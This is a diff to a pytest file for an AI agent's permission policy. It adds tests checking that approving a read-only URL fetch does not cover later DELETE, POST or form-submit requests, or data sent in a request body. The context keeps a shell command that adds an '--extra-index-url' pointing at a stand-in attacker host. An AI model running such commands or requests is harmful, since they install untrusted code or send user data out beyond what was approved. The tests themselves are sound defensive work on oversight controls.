@@ -12,8 +12,10 @@ from __future__ import annotations
 
 import pytest
 
-from agent_core.oversight.policy import RunAllowance
-from tests.oversight.test_scopes import allowing, offered, sh, verdict
+from agent_core.oversight.policy import RunAllowance, decide
+from agent_core.oversight.scopes import offered_scopes
+from agent_core.tools import args_hash
+from tests.oversight.test_scopes import SHIPPED, allowing, offered, sh, verdict
 
 
 def _lifted(approved: str, later: str, autonomy: str = "supervised") -> bool:
@@ -133,6 +135,37 @@ def test_a_project_rule_naming_its_index_covers_that_index_only():
     assert verdict(corp, "run_shell", sh(named)).verdict == "allow"
     elsewhere = named + " --extra-index-url https://evil.test/simple"
     assert verdict(corp, "run_shell", sh(elsewhere)).verdict == "ask"
+
+
+# -- a tool that does more with a URL than read it -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("tool", "approved", "later"),
+    [
+        ("mcp__http__request", {"method": "GET"}, {"method": "DELETE"}),
+        ("mcp__http__request", {"method": "GET"}, {"method": "GET", "body": "the notes"}),
+        ("mcp__http__get", {}, {"method": "POST", "data": "the notes"}),
+        ("mcp__browser__navigate", {}, {"submit": True}),
+    ],
+)
+def test_a_yes_to_a_host_covers_reading_it_with_fetch_url_only(tool, approved, later):
+    url = {"url": "https://api.github.com/repos/a/b"}
+    first, second = {**url, **approved}, {**url, **later}
+    scope = offered_scopes(tool, "medium", first)[-1]
+    widest = RunAllowance().adding(scope.kind, tool, args_hash(first), scope.rule_dict(), 7)
+    decided = decide(
+        SHIPPED,
+        tool=tool,
+        risk="medium",
+        arguments=second,
+        autonomy="supervised",
+        args_hash=args_hash(second),
+        allowance=widest,
+    )
+    assert decided.verdict == "ask", decided
+    fetch = offered("fetch_url", {"url": "https://api.github.com/repos/a/b"})
+    assert [s.kind for s in fetch] == ["call", "domain"]
 
 
 # -- settings: a yes to one key never covers another ------------------------------------------
